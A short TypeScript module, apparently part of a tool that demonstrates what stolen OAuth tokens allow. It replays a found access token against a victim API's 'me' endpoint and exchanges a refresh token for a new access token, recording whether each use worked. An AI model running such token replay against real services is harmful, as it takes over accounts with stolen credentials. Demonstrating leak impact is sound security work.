import type { Use } from "./loot.js";
import type { FoundToken } from "./tokens-in.js";

export interface Victim {
  api: string;
  tokenEndpoint: string;
  clientId: string;
}

/** What a thief does with a token, at the same endpoints as the app. */
export class Uses {
  readonly #victim: Victim;

  constructor(victim: Victim) {
    this.#victim = victim;
  }

  async of({ kind, token }: FoundToken): Promise<Use[]> {
    return kind === "refresh" ? this.#renew(token) : [await this.#askApi(token, "the API")];
  }

  async #askApi(token: string, what: Use["what"]): Promise<Use> {
    const { status, body } = await send(new URL("me", this.#victim.api), {
      headers: { authorization: `Bearer ${token}` },
    });
    const as = typeof body.username === "string" ? { as: body.username } : {};
    return { what, status, worked: status === 200, ...as };
  }

  async #renew(token: string): Promise<Use[]> {
    const { status, body } = await send(new URL(this.#victim.tokenEndpoint), {
      method: "POST",
      body: new URLSearchParams({
        grant_type: "refresh_token",
        client_id: this.#victim.clientId,
        refresh_token: token,
      }),
    });
    const renewed: Use = { what: "the token endpoint", status, worked: status === 200 };
    if (typeof body.access_token !== "string") return [renewed];
    return [renewed, await this.#askApi(body.access_token, "the API, with the new access token")];
  }
}

async function send(url: URL, init: RequestInit): Promise<{ status: number; body: Record<string, unknown> }> {
  try {
    const response = await fetch(url, init);
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  } catch {
    return { status: 0, body: {} };
  }
}
